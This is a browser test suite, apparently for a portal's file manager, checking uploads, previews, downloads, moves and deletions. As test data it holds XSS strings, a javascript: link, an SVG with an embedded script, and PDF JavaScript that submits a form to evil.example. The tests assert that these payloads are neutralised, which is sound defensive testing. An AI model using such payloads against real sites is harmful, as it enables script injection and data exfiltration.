// cspell:ignore Abbrechen
import { readFileSync } from 'node:fs';
import { beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { eventually } from '../support/eventually.ts';
import type { Tenant } from '../support/tenants.ts';
import { checkPage } from './support/check-page.ts';
import { describeInBrowser } from './support/describe-in-browser.ts';
import { textPdf } from './support/text-pdf.ts';

const HOSTILE = '<script>document.title = "attacked"</script>';
const PLAN = `# Plan\n\nBuy **rope**. ${HOSTILE}\n\n[x](javascript:alert(1)) ![pixel](https://evil.example/a.png)`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40">${HOSTILE}<rect width="80" height="40" fill="teal"/></svg>`;

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

const save = (tenant: Tenant, path: string, content: string) =>
  tenant.data('POST', '/api/v2/artifacts', { path, content });

describeInBrowser('the artifacts of the portal', (browser) => {
  test('creates the first file with the keyboard, and reports a path that is not allowed', async () => {
    const { page } = await browser.signIn({ path: '/artifacts' });
    await page.getByRole('heading', { name: 'No files yet' }).waitFor();
    await checkPage(page, 'artifacts-empty');
    await page.getByText('New file').press('Enter');
    await page.getByLabel('Path').fill('/my plan.md');
    await page.getByLabel('Content').fill('# Tea\n');
    await page.getByRole('button', { name: 'Save file' }).press('Enter');
    await page.getByRole('alert').getByText('The path may contain only letters').waitFor();
    expect(await page.getByLabel('Content').inputValue()).toBe('# Tea\n');
    await checkPage(page, 'artifacts-rejected');
    await page.getByLabel('Path').fill('/notes/tea.md');
    await page.keyboard.press('Enter');
    await page.getByText('/notes/tea.md is saved.').waitFor();
    expect(await page.locator('.markdown h2').textContent()).toBe('Tea');
  });

  test('shows folders and files, and renders Markdown without its active content', async () => {
    const tenant = await browser.platform().createTenant();
    await save(tenant, '/plans/2026/plan.md', PLAN);
    await save(tenant, '/plans/data.json', '{"rope": 4}');
    const { page } = await browser.signIn({ tenant, path: '/artifacts' });
    await page.getByRole('link', { name: 'plans/' }).click();
    await page.getByRole('link', { name: 'data.json' }).waitFor();
    await checkPage(page, 'artifacts-folder');
    await page.getByRole('link', { name: '2026/' }).click();
    await page.getByRole('link', { name: 'plan.md' }).click();
    await page.locator('.markdown').getByText(HOSTILE).waitFor();
    expect(await page.locator('.markdown a, .markdown img').count()).toBe(0);
    expect(await page.title()).toBe('/plans/2026/plan.md · Loci');
    await checkPage(page, 'artifact-markdown');
    await page.getByRole('link', { name: 'plans', exact: true }).click();
    await page.getByRole('link', { name: 'data.json' }).waitFor();
  });

  test('shows an image in SVG without its scripts', async () => {
    const tenant = await browser.platform().createTenant();
    await save(tenant, '/logo.svg', SVG);
    const { page } = await browser.signIn({ tenant, path: '/artifacts/file?path=/logo.svg' });
    const image = `document.querySelector('img.preview')`;
    expect(await page.evaluate(`${image}.decode().then(() => ${image}.naturalWidth)`)).toBe(80);
    await checkPage(page, 'artifact-image');
  });

  test('asks for a confirmation before a file is deleted, in the language of the page', async () => {
    const tenant = await browser.platform().createTenant();
    await save(tenant, '/notes.md', 'Tea');
    const path = '/artifacts/delete?path=/notes.md';
    const { page } = await browser.signIn({ tenant, path, context: { locale: 'de-DE' } });
    await page.getByRole('link', { name: 'Abbrechen' }).click();
    await page.getByText('Tea').first().waitFor();
    expect(await tenant.data('GET', '/api/v2/artifacts?path=/notes.md')).toMatchObject({ content: 'Tea' });
  });

  test('downloads, moves and deletes a file', async () => {
    const tenant = await browser.platform().createTenant();
    await save(tenant, '/notes/tea.html', HOSTILE);
    await save(tenant, '/notes/taken.md', '');
    const { page } = await browser.signIn({ tenant, path: '/artifacts/file?path=/notes/tea.html' });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('link', { name: 'Download' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('tea.html');
    expect(readFileSync((await download.path())!, 'utf8')).toBe(HOSTILE);
    await page.getByRole('link', { name: 'Move or rename' }).click();
    await page.getByLabel('Path').fill('/notes/taken.md');
    await page.keyboard.press('Enter');
    await page.getByRole('alert').waitFor();
    await checkPage(page, 'artifact-move');
    await page.getByLabel('Path').fill('/archive/tea.txt');
    await page.keyboard.press('Enter');
    await page.getByText('The file is now at /archive/tea.txt.').waitFor();
    await page.getByRole('link', { name: 'Delete' }).click();
    await page.getByRole('button', { name: 'Delete file' }).click();
    await page.getByText('/archive/tea.txt is deleted.').waitFor();
    expect((await tenant.call('GET', '/api/v2/artifacts?path=/archive/tea.txt')).status).toBe(404);
  });

  describe('with files that are not text', () => {
    let page: Page;
    let tenant: Tenant;
    beforeAll(async () => {
      tenant = await browser.platform().createTenant();
    });
    beforeEach(async () => {
      ({ page } = await browser.signIn({ tenant, path: '/artifacts?folder=/files' }));
    });
    const open = async (name: string) => {
      await page.goto(`${browser.platform().portalUrl}/artifacts/file?path=/files/${name}`);
    };
    const imageWidth = `(async () => { const image = document.querySelector('img.preview'); await image.decode(); return image.naturalWidth; })()`;

    test('saves files that are dropped, adds them to the list, and reports a file that exists', async () => {
      await page.getByText('This folder is empty.').waitFor();
      await drop(page, [
        { name: 'tea.png', base64: PNG.toString('base64') },
        { name: 'notes.md', base64: Buffer.from('# Tea').toString('base64') },
      ]);
      await page.getByRole('link', { name: 'tea.png' }).nth(1).waitFor();
      await page.getByRole('link', { name: 'notes.md' }).nth(1).waitFor();
      expect(await page.getByText('This folder is empty.').count()).toBe(0);
      await drop(page, [{ name: 'tea.png', base64: PNG.toString('base64') }]);
      await page.getByRole('alert').getByText('already exists').waitFor();
      await drop(page, [{ name: 'no good.md', base64: PNG.toString('base64') }]);
      await page
        .getByRole('alert')
        .getByText(/^Path: The path may contain only letters/)
        .waitFor();
      await checkPage(page, 'artifacts-uploads');
    });

    test('saves files that are chosen, and rejects a large file before it is sent', async () => {
      await page.locator('input[type=file]').setInputFiles([
        { name: 'tea.pdf', mimeType: 'application/pdf', buffer: textPdf('The kettle whistles at noon.') },
        { name: 'tea.bin', mimeType: 'application/octet-stream', buffer: Buffer.from([0xff, 0]) },
        { name: 'large.bin', mimeType: 'application/octet-stream', buffer: Buffer.alloc(1_048_577) },
      ]);
      await page.getByRole('link', { name: 'tea.bin' }).nth(1).waitFor();
      await page.getByText('The file is larger than 1 MB.').waitFor();
    });

    test('shows a raster image, and downloads it unchanged', async () => {
      await tenant.data('POST', '/api/v2/artifacts', {
        path: '/files/page.html',
        content: PNG.toString('base64'),
        encoding: 'base64',
      });
      await open('page.html');
      expect(await page.evaluate(imageWidth)).toBe(1);
      await checkPage(page, 'artifact-raster');
      const response = await page.request.get(
        `${browser.platform().portalUrl}/artifacts/download?path=/files/page.html`,
      );
      expect(response.headers()).toMatchObject({
        'content-type': 'image/png',
        'content-disposition': 'attachment; filename="page.html"',
        'content-security-policy': "sandbox; default-src 'none'",
        'x-content-type-options': 'nosniff',
      });
      expect(await response.body()).toEqual(PNG);
    });

    /** Number of pixels of the shown page that are not white. */
    const inkOf = (): Promise<number> =>
      page.evaluate(`(() => {
        const canvas = document.querySelector('.pdf-page canvas');
        const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
        let dark = 0;
        for (let at = 0; at < data.length; at += 4) if (data[at] < 128) dark += 1;
        return dark;
      })()`);

    test('shows the pages of a PDF one by one, with the keyboard, and none of its scripts and links', async () => {
      const attack =
        "app.alert\\('x'\\);document.title='attacked';this.submitForm\\('https://evil.example/'\\)";
      const pdf = textPdf(['The kettle whistles at noon.', 'The tea is served at four.', 'The end.'], attack);
      const content = { path: '/files/menu.pdf', content: pdf.toString('base64'), encoding: 'base64' };
      await tenant.data('POST', '/api/v2/artifacts', content);
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      page.on('dialog', (dialog) => requests.push(`dialog ${dialog.message()}`));
      await open('menu.pdf');
      await page.locator('.pdf-text', { hasText: 'The kettle whistles at noon.' }).waitFor();
      expect(await inkOf()).toBeGreaterThan(100);
      await page.getByText('of 3').waitFor();
      await checkPage(page, 'artifact-pdf-pages');
      await page.getByRole('button', { name: 'Next page' }).press('Enter');
      await page.locator('.pdf-text', { hasText: 'The tea is served at four.' }).waitFor();
      await page.locator('.pdf-view').focus();
      await page.keyboard.press('ArrowRight');
      await page.locator('.pdf-text', { hasText: 'The end.' }).waitFor();
      expect(await page.getByRole('button', { name: 'Next page' }).isDisabled()).toBe(true);
      await page.keyboard.press('ArrowRight');
      await page.keyboard.press('ArrowLeft');
      await page.locator('.pdf-text', { hasText: 'The tea is served at four.' }).waitFor();
      await page.locator('.pdf-toolbar input').fill('1');
      await page.keyboard.press('Enter');
      await page.locator('.pdf-text', { hasText: 'The kettle whistles at noon.' }).waitFor();
      const width = async () => (await page.locator('.pdf-page').boundingBox())!.width;
      const before = await width();
      await page.getByRole('button', { name: 'Larger' }).click();
      await eventually(async () => expect(await width()).toBeGreaterThan(1.4 * before));
      await page.locator('.pdf-view').click();
      expect(await page.title()).toBe('/files/menu.pdf · Loci');
      const { portalUrl } = browser.platform();
      expect(requests.filter((url) => !url.startsWith(portalUrl))).toEqual([]);
      expect(await page.locator('.pdf-page a').count()).toBe(0);
    });

    test('explains that a damaged PDF cannot be shown, and offers a download without JavaScript', async () => {
      const damaged = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from([0xff, 0xfe, 0])]);
      const content = { path: '/files/damaged.pdf', content: damaged.toString('base64'), encoding: 'base64' };
      await tenant.data('POST', '/api/v2/artifacts', content);
      await open('damaged.pdf');
      await page.getByRole('alert').getByText('The PDF cannot be shown.').waitFor();
      const { page: plain } = await browser.signIn({
        tenant,
        path: '/artifacts/file?path=/files/damaged.pdf',
        context: { javaScriptEnabled: false },
      });
      await plain.getByRole('link', { name: 'Download the PDF to read it.' }).waitFor();
    });

    test('stores a PDF as a document, which shows its text and its pages', async () => {
      await open('tea.pdf');
      await page.getByRole('button', { name: 'Store as a document' }).click();
      await page.getByText('The kettle whistles at noon.').first().waitFor();
      await page.getByText('/files/tea.pdf is stored as a document.').waitFor();
      await page.getByRole('button', { name: 'Show the pages' }).press('Enter');
      await page.locator('.pdf-text', { hasText: 'The kettle whistles at noon.' }).waitFor();
      expect(await inkOf()).toBeGreaterThan(100);
    });

    test('explains that a file of another type is not shown', async () => {
      await open('tea.bin');
      await page.getByText('Files of this type are not shown here.').waitFor();
      expect(await page.locator('img.preview').count()).toBe(0);
    });

    test('uploads files without JavaScript', async () => {
      const { page: plain } = await browser.signIn({
        tenant,
        path: '/artifacts?folder=/plain',
        context: { javaScriptEnabled: false },
      });
      await plain.setInputFiles('input[type=file]', [
        { name: 'coffee.md', mimeType: 'text/markdown', buffer: Buffer.from('Coffee') },
        { name: 'image.png', mimeType: 'image/png', buffer: PNG },
        { name: 'no good.md', mimeType: 'text/markdown', buffer: Buffer.from('Tea') },
      ]);
      await plain.getByRole('button', { name: 'Upload files' }).click();
      await plain
        .getByRole('alert')
        .getByText('2 files are saved. no good.md was not saved. Path: The path may contain only letters')
        .waitFor();
      await plain.getByRole('link', { name: 'image.png' }).click();
      await plain.getByText('image/png').waitFor();
    });
  });

  test('sends downloads with headers that forbid active content, and 404 for an invalid path', async () => {
    const tenant = await browser.platform().createTenant();
    await save(tenant, '/logo.svg', SVG);
    const { page } = await browser.signIn({ tenant, role: 'viewer', path: '/artifacts' });
    expect(await page.getByText('New file').count()).toBe(0);
    const url = `${browser.platform().portalUrl}/artifacts`;
    const headers = (await page.request.get(`${url}/download?path=/logo.svg`)).headers();
    expect(headers).toMatchObject({
      'content-disposition': 'attachment; filename="logo.svg"',
      'content-security-policy': "sandbox; default-src 'none'",
      'x-content-type-options': 'nosniff',
    });
    for (const path of ['/gone.md', '../a', '']) {
      expect((await page.request.get(`${url}/file?path=${path}`)).status()).toBe(404);
    }
  });
});

/** Drops files on the area for uploads. */
async function drop(page: Page, files: readonly { name: string; base64: string }[]): Promise<void> {
  const data = await page.evaluateHandle(
    `(() => {
      const data = new DataTransfer();
      for (const { name, base64 } of ${JSON.stringify(files)}) {
        data.items.add(new File([Uint8Array.from(atob(base64), (each) => each.charCodeAt(0))], name));
      }
      return data;
    })()`,
  );
  await page.locator('.drop-zone').dispatchEvent('drop', { dataTransfer: data });
}
